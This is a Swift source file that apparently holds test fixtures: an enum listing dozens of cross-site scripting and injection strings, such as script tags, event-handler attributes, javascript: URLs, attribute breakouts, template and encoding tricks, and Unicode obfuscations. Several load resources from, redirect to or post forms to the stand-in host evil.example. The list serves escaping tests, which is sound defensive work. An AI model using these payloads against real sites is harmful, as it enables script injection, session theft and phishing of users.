/// Texts that a page might mistake for markup or code.
enum HostileTexts {
    static let all = elements + events + addresses + escapes + ends + templates + encodings + signs

    private static let elements = [
        "<script>alert('larder')</script>", "<SCRIPT SRC=//evil.example/a.js></SCRIPT>", "<script/x>alert(2)</script>",
        "<scr<script>ipt>alert(3)</scr</script>ipt>", "<<script>alert(4)//<</script>", "<script\t>alert(5)</script\t>",
        "<iframe srcdoc='<script>alert(6)</script>'></iframe>", "<iframe src=javascript:alert(7)>",
        "<object data=data:text/html,<script>alert(8)</script>></object>", "<embed src=//evil.example/a.swf>",
        "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example/a.css>", "<style>*{background:url(//evil.example)}</style>",
        "<form action=//evil.example><button>Log in again</button></form>", "<input name=token value=stolen>",
        "<template><script>alert(9)</script></template>", "<noscript><p title=\"</noscript><img src=x>\">",
        "<svg><script>alert(10)</script></svg>", "<math><mi xlink:href=javascript:alert(11)>x</mi></math>",
        "<xmp><script>alert(12)</script></xmp>", "<plaintext>", "<frameset><frame src=//evil.example></frameset>",
        "<portal src=//evil.example>", "<dialog open>Your session has ended</dialog>",
    ]
    private static let events = [
        "<img src=x onerror=alert(13)>", "<img/src=x/onerror=alert(14)>", "<img src=x:x onerror\t=\talert(15)>",
        "<svg onload=alert(16)>", "<svg><animate onbegin=alert(17) attributeName=x dur=1s>", "<body onload=alert(18)>",
        "<details open ontoggle=alert(19)>x</details>", "<video><source onerror=alert(20)></video>",
        "<audio src onloadstart=alert(21)>", "<marquee onstart=alert(22)>x</marquee>",
        "<input autofocus onfocus=alert(23)>", "<a/onclick=alert(24)>here</a>",
        "<b style=animation-name:x onanimationstart=alert(25)>x</b>",
        "<button popovertarget=x onbeforetoggle=alert(26)>",
    ]
    private static let addresses = [
        "<a href=javascript:alert(27)>here</a>", "<a href=\"java\tscript:alert(28)\">here</a>",
        "<a href=&#106;avascript:alert(29)>here</a>", "<a href=' javascript:alert(30)'>here</a>",
        "javascript:alert(31)", "JaVaScRiPt:alert(32)//https://", "javascript://a.example/%0aalert(33)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgzNCk8L3NjcmlwdD4=", "vbscript:msgbox(35)",
        "<img srcset='//evil.example/a 1x'>", "//evil.example", "\\\\evil.example\\a",
    ]
    private static let escapes = [
        "\" autofocus onfocus=alert(36) x=\"", "' autofocus onfocus=alert(37) x='", "` onmouseover=alert(38) `",
        "\"><script>alert(39)</script>", "'><img src=x onerror=alert(40)>", "x\" style=\"position:fixed;inset:0",
        "\" formaction=\"//evil.example", "'-alert(41)-'", "\\\");alert(42)//", "\"/><base href=\"//evil.example",
        "x onmouseover=alert(43)", "\" data-frame=\"https://evil.example", "\" href=\"javascript:alert(44)",
    ]
    private static let ends = [
        "</textarea><script>alert(45)</script>", "</title><script>alert(46)</script>",
        "</script><script>alert(47)</script>", "</option></select><img src=x onerror=alert(48)>",
        "</style><script>alert(49)</script>", "--><script>alert(50)</script><!--", "<!-- everything below is gone",
        "]]><script>alert(51)</script>", "<![CDATA[<script>alert(52)</script>]]>", "<?php echo 53 ?>", "</body></html>",
        "</li></ul></section>", "<",
    ]
    private static let templates = [
        "{{{page}}}", "{{> Chrome/token}}", "{{#page}}{{title}}{{/page}}", "{{=<% %>=}}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "{{constructor.constructor('alert(54)')()}}", "{count}",
    ]
    private static let encodings = [
        "&lt;script&gt;alert(55)&lt;/script&gt;", "&#60;script&#62;alert(56)&#60;/script&#62;",
        "%3Cscript%3Ealert(57)%3C/script%3E", "\\u003cscript\\u003ealert(58)\\u003c/script\\u003e",
        "+ADw-script+AD4-alert(59)+ADw-/script+AD4-", "&quot; onfocus=alert(60) x=&quot;", "&amp;lt;img src=x&amp;gt;",
        "=HYPERLINK(\"//evil.example\")",
    ]
    private static let signs = [
        "\u{FF1C}script\u{FF1E}alert(61)\u{FF1C}/script\u{FF1E}", "\u{202E}>tpircs/<)26(trela>tpircs<",
        "<scr\u{200B}ipt>alert(63)</script>", "<script>\u{2060}alert(64)</script>",
        "\u{FEFF}<script>alert(65)</script>",
        "<img src=x\u{00A0}onerror=alert(66)>", "<s\u{0131}cript>alert(67)</s\u{0131}cript>",
        "<\u{0301}script>alert(68)</script>",
    ]
}
